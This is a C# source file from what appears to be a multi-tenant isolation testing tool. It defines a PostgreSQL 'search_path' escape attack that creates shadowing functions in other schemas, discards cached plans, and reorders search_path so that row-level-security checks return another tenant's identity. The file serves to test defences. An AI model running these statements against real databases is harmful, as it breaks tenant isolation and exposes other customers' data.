using Tenet.Core.Model;
using Tenet.Core.Project;
using Tenet.Core.Sql;

namespace Tenet.Core.Isolation.Attacks.Escape;

/// <summary>Makes a function with the name of one that decides, in each schema where it may, and puts that schema first.</summary>
internal sealed class SearchPath : Attack
{
    public override AttackInfo Info { get; } = new("escape/search-path", "A tenant puts its own functions where others are looked for");

    public override IEnumerable<FactId> Targets(IsolationSchema schema) => schema.Tenancy.Strategy != TenancyStrategy.RowLevelSecurity ? [] : schema.View.Of<Routine>()
        .Where(routine => routine is { IsProcedure: false, Returns: "uuid" or "bigint" or "integer" or "text" or "boolean", IdentityArguments: "" }).Select(routine => routine.Id);

    public override IEnumerable<Attempt> Attempts(FactId target, Scene scene)
    {
        var returns = ((Routine)scene.Schema.View.Model.Find(target)!).Returns;
        var answer = returns == "boolean" ? "true" : $"{Quote.Literal(scene.Others[0])}::{returns}";
        return scene.Schema.View.Of<Namespace>().Select(schema => schema.Name).Where(schema => schema != target.Schema).Append("public").Distinct().Where(schema => schema != target.Schema).Select(schema => new Attempt(
            $"CREATE FUNCTION {Quote.Qualified(schema, target.Name)}() RETURNS {returns} LANGUAGE sql AS {Quote.Dollar("SELECT " + answer)}",
            // What the session has planned before would be used again: names were looked up when there was no other.
            "DISCARD PLANS",
            $"SET LOCAL search_path = {Quote.Identifier(schema)}, public",
            Statements.CountAll(scene)));
    }
}
